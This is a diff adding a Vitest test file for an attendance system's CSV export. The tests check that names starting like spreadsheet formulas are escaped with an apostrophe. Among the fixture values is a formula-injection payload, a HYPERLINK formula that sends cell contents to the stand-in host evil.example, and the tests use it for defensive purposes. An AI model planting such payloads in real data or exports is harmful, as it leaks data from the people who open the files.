@@ -1,0 +1,66 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startTestServer, type TestServer } from '../../test-support/testServer.js';
+import { punchesCsv } from './csv.js';
+
+// A name typed by someone with admin access, or a device name, must never run as a formula when the
+// payroll clerk opens the export in Excel or LibreOffice.
+let server: TestServer;
+const DAY = '2026-03-10';
+
+async function created(method: string, path: string, body?: unknown) {
+  const response = await server.request(method, path, body);
+  if (response.status >= 300) throw new Error(`${path}: ${response.status} ${response.text}`);
+  return response.body;
+}
+
+beforeAll(async () => {
+  server = await startTestServer({ env: { TZ: 'America/Mexico_City' } });
+  const sucursal = await created('POST', '/api/sucursales', { nombre: '@Norte' });
+  await created('POST', '/api/puestos', { nombre: 'Cajero', salarioDiario: 300 });
+  const employee = (nombre: string) =>
+    created('POST', '/api/employees', { nombre, sucursal: '@NORTE', puesto: 'CAJERO', salario: 300, bono: 0, fechaIngreso: '2026-01-05', horaEntrada: '09:00', horaSalida: '18:00' });
+  const names = ['=HYPERLINK("http://evil.example/?x="&A1;"Ver")', '+52 Juan', '-Ana', 'Luis Mora'];
+  const ids: number[] = [];
+  for (const nombre of names) ids.push((await employee(nombre)).id);
+
+  await server.anonymous('POST', '/api/devices/verify', { fingerprint: 'kiosko-norte-0001' });
+  const device = (await created('GET', '/api/devices'))[0];
+  await created('POST', `/api/devices/${device.id}/approve`);
+  await created('PUT', `/api/devices/${device.id}`, { nombre: '=1+1', sucursalId: sucursal.id });
+
+  const insert = server.db.prepare(
+    `INSERT INTO checadas (empleado_id, dispositivo_id, tipo, hora, fecha_local, match_score, created_at) VALUES (?, ?, 'entrada', ?, ?, 0.9, ?)`,
+  );
+  ids.forEach((id, i) => {
+    const hora = `2026-03-10T1${i}:00:00.000Z`;
+    insert.run(id, device.id, hora, DAY, hora);
+  });
+});
+afterAll(async () => {
+  await server?.close();
+});
+
+describe('GET /api/attendance?formato=csv', () => {
+  it('writes names that start like a formula as text, with a leading apostrophe', async () => {
+    const response = await fetch(`${server.url}/api/attendance?formato=csv&desde=${DAY}&hasta=${DAY}`, { headers: { cookie: server.cookie } });
+    expect(response.status).toBe(200);
+    const lines = (await response.text()).replace(/^\uFEFF/, '').trimEnd().split('\r\n');
+    const cells = lines.slice(1).map((line) => line.split(',').slice(4, 8));
+    expect(cells).toEqual([
+      ['LUIS MORA', "'@NORTE", 'Entrada', "'=1+1"],
+      ["'-ANA", "'@NORTE", 'Entrada', "'=1+1"],
+      ["'+52 JUAN", "'@NORTE", 'Entrada', "'=1+1"],
+      // The doubled quotes are the CSV quoting of the name's own quotes.
+      [`"'=HYPERLINK(""HTTP://EVIL.EXAMPLE/?X=""&A1;""VER"")"`, "'@NORTE", 'Entrada', "'=1+1"],
+    ]);
+    expect(lines.slice(1).every((line) => !/,[=+\-@]/.test(line))).toBe(true);
+  });
+});
+
+describe('punchesCsv', () => {
+  it('also keeps a text that starts with a tab or a carriage return from running as a formula', () => {
+    const row = { id: 1, empleado_id: 7, dispositivo_id: 1, tipo: 'salida' as const, hora: '2026-03-10T20:00:00.000Z', fecha_local: DAY, match_score: 0.9, liveness: null, tiene_foto: 0 };
+    const csv = punchesCsv([{ ...row, empleado: '\t=1+1', sucursal: null, dispositivo: '\r=1+1' }], 'America/Mexico_City');
+    expect(csv.split('\r\n')[1]).toBe(`2026-03-10,14:00:00,${DAY},7,'\t=1+1,,Salida,"'\r=1+1",0.900`);
+  });
+});
